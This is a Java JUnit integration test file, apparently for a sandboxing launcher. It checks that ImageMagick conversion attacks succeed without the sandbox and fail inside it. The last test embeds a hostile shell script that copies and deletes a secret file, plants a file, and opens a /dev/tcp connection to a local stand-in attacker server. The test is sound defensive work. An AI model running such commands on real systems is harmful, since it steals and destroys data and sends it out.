package io.github.landlauncher.it.field;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.github.landlauncher.it.Outcome;
import io.github.landlauncher.it.RequiresAbi;
import io.github.landlauncher.it.programs.RequiresProgram;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** What strangers try by what they send, with a configuration of ImageMagick that lets them. */
@RequiresAbi(3)
@RequiresProgram("convert")
@DisplayNameGeneration(ReplaceUnderscores.class)
class ConverterAttackIT {

    @TempDir private Path directory;
    private Converter converter;
    private AttackersServer server;

    @BeforeEach
    void makeConverter() throws IOException {
        converter = new Converter(directory);
        server = AttackersServer.of(Files.readAllBytes(converter.path("private/picture.ppm")));
    }

    @AfterEach
    void closeServer() throws IOException {
        server.close();
    }

    @ParameterizedTest
    @EnumSource
    void without_a_sandbox_it_succeeds(ConverterAttack attack) throws Exception {
        assumeTrue(attack.canBeTried(converter), "needs an ImageMagick that was built with this format");
        Outcome outcome = converter.free(attack.arguments(converter, server));

        assertThat(attack.succeeded(converter, server)).as("%s", outcome).isTrue();
    }

    /** Not because ImageMagick itself would refuse it. */
    @ParameterizedTest
    @EnumSource
    void in_the_sandbox_it_fails(ConverterAttack attack) throws Exception {
        assumeTrue(attack.canBeTried(converter), "needs an ImageMagick that was built with this format");
        Outcome outcome = converter.contained(attack.arguments(converter, server));

        assertThat(attack.succeeded(converter, server)).as("%s", outcome).isFalse();
        assertThat(server.connections()).isZero();
        assertThat(outcome.error()).doesNotContain("security policy");
        assertThat(converter.path("private/secret")).hasContent(Converter.SECRET);
    }

    /** So it is the policy that makes the difference. */
    @ParameterizedTest
    @EnumSource
    void in_a_sandbox_that_allows_what_it_takes_it_succeeds(ConverterAttack attack) throws Exception {
        assumeTrue(attack.canBeTried(converter), "needs an ImageMagick that was built with this format");
        converter.allowing(policy -> attack.allowed(policy, converter, server));

        Outcome outcome = converter.contained(attack.arguments(converter, server));

        assertThat(attack.succeeded(converter, server)).as("%s", outcome).isTrue();
    }

    /** The policy of one whose pictures need programs: these are held as convert is. */
    @Test
    void a_command_that_may_run_gets_no_further() throws Exception {
        String script = converter.sent("picture.script", """
                PATH=/usr/bin:/bin
                cat '%1$s/secret' >stolen
                rm -f '%1$s/secret'
                echo x >'%1$s/planted'
                exec 3<>/dev/tcp/127.0.0.1/%2$d
                """.formatted(converter.path("private"), server.port()));
        String bash = converter.sent("start.script", "exec /bin/bash '" + script + "'");
        converter.allowing(policy -> policy.allowReadExecute("/usr")
                .allowReadExecuteIfExists("/bin", "/lib", "/lib64"));

        Outcome contained = converter.contained("script:" + bash, "null:");

        assertThat(contained.error())
                .contains("secret: Permission denied", "planted: Permission denied")
                .contains("rm: cannot remove", "/dev/tcp/127.0.0.1/" + server.port());
        assertThat(converter.path("out/stolen")).isEmptyFile();
        assertThat(converter.path("private/secret")).hasContent(Converter.SECRET);
        assertThat(converter.path("private/planted")).doesNotExist();
        assertThat(server.connections()).isZero();

        converter.free("script:" + bash, "null:");

        assertThat(converter.path("out/stolen")).hasContent(Converter.SECRET);
        assertThat(converter.path("private/secret")).doesNotExist();
        assertThat(converter.path("private/planted")).hasContent("x");
        assertThat(server.connections()).isOne();
    }
}
